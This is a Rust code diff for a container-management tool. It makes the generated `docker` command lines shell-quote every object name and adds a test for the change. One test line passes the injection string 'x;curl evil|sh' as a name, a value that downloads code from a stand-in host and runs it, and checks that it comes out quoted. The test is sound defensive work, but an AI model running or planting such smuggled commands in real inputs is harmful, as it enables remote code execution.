@@ -173,32 +173,33 @@ impl Command {
         }
     }
 
-    /// The equal `docker …` line, with `name` for the object. Names are plain words by the
-    /// engine's own rule; what a person typed is quoted.
-    pub fn docker_line(&self, name: &str) -> String {
-        match self {
-            Self::Start(_) => format!("docker start {name}"),
-            Self::Stop(_, time) => format!("docker stop -t {} {name}", time.as_secs()),
-            Self::Restart(_, time) => format!("docker restart -t {} {name}", time.as_secs()),
-            Self::Pause(_) => format!("docker pause {name}"),
-            Self::Unpause(_) => format!("docker unpause {name}"),
-            Self::Kill(_, signal) => format!("docker kill -s {signal} {name}"),
-            Self::Rename(_, new) => format!("docker rename {name} {}", quoted(new)),
+    /// The equal `docker …` line for objects of these names. Every name is quoted where a shell
+    /// would read it otherwise: an engine may call its objects anything.
+    pub fn docker_line(&self, names: &[&str]) -> String {
+        let (words, last) = match self {
+            Self::Start(_) => ("start".to_owned(), None),
+            Self::Stop(_, time) => (format!("stop -t {}", time.as_secs()), None),
+            Self::Restart(_, time) => (format!("restart -t {}", time.as_secs()), None),
+            Self::Pause(_) => ("pause".to_owned(), None),
+            Self::Unpause(_) => ("unpause".to_owned(), None),
+            Self::Kill(_, signal) => (format!("kill -s {signal}"), None),
+            Self::Rename(_, new) => ("rename".to_owned(), Some(new.as_str())),
             Self::Remove { force, volumes, .. } => {
                 let force = if *force { " -f" } else { "" };
                 let volumes = if *volumes { " -v" } else { "" };
-                format!("docker rm{force}{volumes} {name}")
+                (format!("rm{force}{volumes}"), None)
             }
-            Self::PrunePreview => "docker ps -as -f status=exited".to_owned(),
-            Self::OlderLines { held, count, .. } => {
-                format!("docker logs -n {} {name}", held + count)
-            }
-        }
+            Self::PrunePreview => return "docker ps -as -f status=exited".to_owned(),
+            Self::OlderLines { held, count, .. } => (format!("logs -n {}", held + count), None),
+        };
+        let names = names.iter().copied().chain(last).map(quoted);
+        let words = ["docker".to_owned(), words].into_iter().chain(names);
+        words.collect::<Vec<_>>().join(" ")
     }
 }
 
 /// A word as a shell takes it.
-fn quoted(word: &str) -> String {
+pub fn quoted(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-' | '/' | ':');
     if !word.is_empty() && word.chars().all(plain) {
         word.to_owned()
@@ -273,8 +274,10 @@ mod tests {
                 "docker rm -f -v web",
             ),
         ];
+        let hostile = Command::Pause(Id::new("x")).docker_line(&["x;curl evil|sh"]);
+        assert_eq!(hostile, "docker pause 'x;curl evil|sh'");
         for (command, line) in cases {
-            assert_eq!(command.docker_line("web"), line);
+            assert_eq!(command.docker_line(&["web"]), line);
         }
     }
 }
